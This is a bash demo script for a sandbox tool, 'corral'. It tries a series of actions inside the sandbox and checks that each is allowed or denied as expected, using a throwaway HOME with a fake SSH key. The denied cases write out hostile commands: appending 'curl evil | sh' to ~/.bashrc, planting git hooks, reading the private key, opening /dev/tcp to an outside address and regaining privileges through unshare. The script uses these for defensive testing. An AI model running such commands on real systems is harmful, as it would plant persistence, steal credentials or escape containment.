#!/usr/bin/env bash
# A live tour of what corral allows and denies. Uses a throwaway workspace and
# a throwaway HOME with a planted (fake) SSH key; changes nothing else.
set -u
corral=$(realpath "${1:-build/corral}")
# Next to the binary rather than in /tmp: the sandbox has its own /tmp, and
# the point is to show the real HOME being protected.
demo=$(mktemp -d "$(dirname "$corral")/demo.XXXXXX")
trap 'rm -rf "$demo"' EXIT
ws=$demo/project
export DEMO_API_KEY=not-a-real-key  # matches the default *_API_KEY drop pattern
export HOME=$demo/home XDG_CACHE_HOME=$demo/cache XDG_CONFIG_HOME=$demo/config
mkdir -p "$ws/.git/hooks" "$ws/vendor/lib/.git/hooks" "$HOME/.ssh"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (fake)" >"$HOME/.ssh/id_ed25519"
echo "# user's shell config" >"$HOME/.bashrc"
cd "$ws" || exit 1

if [ -t 1 ]; then G=$'\e[32m' R=$'\e[31m' B=$'\e[1m' N=$'\e[0m'; else G= R= B= N=; fi
step=0
try() { # try EXPECT DESCRIPTION -- COMMAND...: run COMMAND in corral, show the outcome
        local expect=$1 what=$2
        shift 3
        step=$((step + 1))
        printf '\n%s%2d. %s%s\n    $ corral run %s\n' "$B" "$step" "$what" "$N" "$*"
        out=$("$corral" run "$@" 2>&1)
        rc=$?
        [ -n "$out" ] && printf '%s\n' "$out" | sed 's/^/    | /'
        # 125 means corral itself failed: never a successful denial.
        if { [ "$expect" = allowed ] && [ $rc -eq 0 ]; } || { [ "$expect" = denied ] && [ $rc -ne 0 ] && [ $rc -ne 125 ]; }; then
                printf '    %s%s%s (exit %d)\n' "$G" "$expect, as it should be" "$N" "$rc"
        else
                printf '    %s%s%s (exit %d)\n' "$R" "UNEXPECTED: should be $expect" "$N" "$rc"
                unexpected=1
        fi
}
unexpected=0

echo "${B}corral demo${N}: workspace $ws, HOME $HOME"
try allowed "Write inside the workspace"              -- -- sh -c 'echo "int main(void){return 0;}" > main.c && ls'
try denied  "Write outside it (the user's ~/.bashrc)"  -- -- sh -c 'echo "curl evil | sh" >> ~/.bashrc'
try denied  "Plant a git hook (.git is protected)"    -- -- sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit'
try denied  "Move .git away and make a new one"       -- -- sh -c 'mv .git g && mkdir .git'
try denied  "Create .codex when it does not exist"    -- -- mkdir .codex
try denied  "Plant a hook in a nested repository"     -- --protect-depth 2 -- sh -c 'echo "#!/bin/sh" > vendor/lib/.git/hooks/post-checkout'
try denied  "Read the SSH key"                        -- -- cat "$HOME/.ssh/id_ed25519"
try denied  "Reach the network (network off)"         -- -- bash -c 'exec 3<>/dev/tcp/198.51.100.1/80'
try allowed "A server on loopback inside the sandbox" -- -- bash -c 'nc -l 127.0.0.1 8765 & sleep 0.3; echo hi | nc -N 127.0.0.1 8765; wait'
try denied  "Secrets in the environment are dropped"  -- -- sh -c 'test -n "$DEMO_API_KEY" && echo "$DEMO_API_KEY"' 
try denied  "Get capabilities back via a user namespace" -- -- unshare -U -r true
try denied  "Outlive the timeout (1 s)"                -- -t 1 -- sleep 30
try denied  "Allocate 512 MiB under --limit-memory 64M" -- --limit-memory 64M -- python3 -c 'b = bytearray(512 << 20)'

printf '\n%sAfterwards, outside the sandbox:%s\n' "$B" "$N"
printf '    ~/.bashrc: %s\n' "$(cat "$HOME/.bashrc")"
printf '    .git/hooks: %s\n' "$(ls -A .git/hooks | tr '\n' ' ')(empty means no hook was planted)"
printf '    vendor/lib/.git/hooks: %s\n' "$(ls -A vendor/lib/.git/hooks | tr '\n' ' ')(empty: none there either)"
printf '    workspace: %s\n' "$(ls -A | tr '\n' ' ')"
printf '\nSee the whole plan with: corral explain -- CMD   and the machine with: corral doctor\n'
exit $unexpected
